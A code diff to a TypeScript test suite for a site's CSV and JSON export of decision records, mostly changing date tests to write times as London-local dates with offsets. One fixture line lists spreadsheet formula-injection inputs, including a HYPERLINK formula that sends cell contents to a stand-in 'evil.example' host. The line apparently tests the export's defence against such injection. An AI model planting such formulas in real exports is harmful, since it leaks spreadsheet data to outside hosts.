@@ -12,18 +12,13 @@ import { readContentDir } from '../../lib/content/read-content-dir';
 import type { ContentFile } from '../../lib/content/types';
 import { DATA_FIELDS, dataRepresentation, decisionRecords, decisionsCsv, decisionsJson, decisionsJsonSchema, type DecisionRecord } from '../../lib/data-export';
 import { buildIndexes } from '../../lib/indexes';
-import { visibleDecisions } from '../../lib/published';
 import type { SiteRecords } from '../../lib/site';
-import { collect, contentFiles, decision, post, SITE } from './helpers';
+import { collect, contentFiles, decision, post, SITE, siteRecordsOf } from './helpers';
 
 const NOW = new Date('2011-07-20T12:00:00Z');
 
 function recordsFrom(files: ContentFile[] | ReturnType<typeof contentFiles>, now = NOW): SiteRecords {
-  const content = collectContent(Array.isArray(files) ? contentFiles(files) : files);
-  const errors = content.problems.filter((p) => p.severity === 'error');
-  if (errors.length > 0 || !content.site) throw new Error(JSON.stringify(errors, null, 2));
-  const visibility = { now, preview: false };
-  return { ...content, site: content.site, indexes: buildIndexes(visibleDecisions(content.decisions, visibility)), visibility };
+  return siteRecordsOf(collectContent(Array.isArray(files) ? contentFiles(files) : files), now);
 }
 
 const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '＝1+1'];
@@ -135,11 +130,32 @@ describe('records', () => {
     expect(row.project_name).toBeNull();
   });
 
-  it('give absolute post URLs and ISO times', () => {
+  it('give absolute post URLs and ISO times on the London date', () => {
     const row = decisionRecords(records)[0]!;
     expect(row.post_url).toBe(`${SITE.baseUrl}/decisions/2011-07-01-formulas`);
-    expect(row.published).toBe('2011-06-30T23:00:00.000Z');
+    // Published on 1 July 2011 (London midnight, BST): never the UTC instant of 30 June.
+    expect(row.published).toBe('2011-07-01T00:00:00+01:00');
     expect(row.updated).toBe(row.published);
+  });
+
+  it('write every date in the CSV and the JSON as the London date, in winter and summer, with corrections', () => {
+    const london = recordsFrom([
+      post({ title: 'Winter post', date: '2011-01-15', updates: [{ date: '2011-03-27', note: 'Corrected on the day the clocks went forward.' }] }, { name: '2011-01-15-winter' }),
+      post({ title: 'Summer post', date: '2011-06-30T00:30' }, { name: '2011-06-30-summer' }),
+    ]);
+    const json = decisionsJson(london).decisions;
+    const winter = json.find((d) => d.post_slug === '2011-01-15-winter')!;
+    const summer = json.find((d) => d.post_slug === '2011-06-30-summer')!;
+    expect(winter.published).toBe('2011-01-15T00:00:00+00:00');
+    expect(winter.updated).toBe('2011-03-27T00:00:00+00:00');
+    expect(summer.published).toBe('2011-06-30T00:30:00+01:00');
+    const [header, ...rows] = parseCsv(decisionsCsv(london));
+    const at = (name: string) => header!.indexOf(name);
+    const summerRow = rows.find((r) => r[at('post_slug')] === '2011-06-30-summer')!;
+    expect(summerRow[at('published')]).toBe('2011-06-30T00:30:00+01:00');
+    for (const row of rows) for (const field of ['published', 'updated']) expect(row[at(field)]).not.toMatch(/Z$/);
+    // The instant is kept exactly: the offset makes it the same moment as the UTC time.
+    expect(new Date(summer.published).toISOString()).toBe('2011-06-29T23:30:00.000Z');
   });
 });
 
@@ -214,7 +230,8 @@ describe('the JSON Schema', () => {
     const file = decisionsJson(recordsFrom(fixture()));
     expect(file.$schema).toBe(`${SITE.baseUrl}/data/decisions.schema.json`);
     expect(file.count).toBe(file.decisions.length);
-    expect(file.generated).toBe('2011-06-30T23:00:00.000Z');
+    // The latest publication or correction in the file, on its London date: 1 July 2011, not the UTC 30 June.
+    expect(file.updated).toBe('2011-07-01T00:00:00+01:00');
   });
 });
 
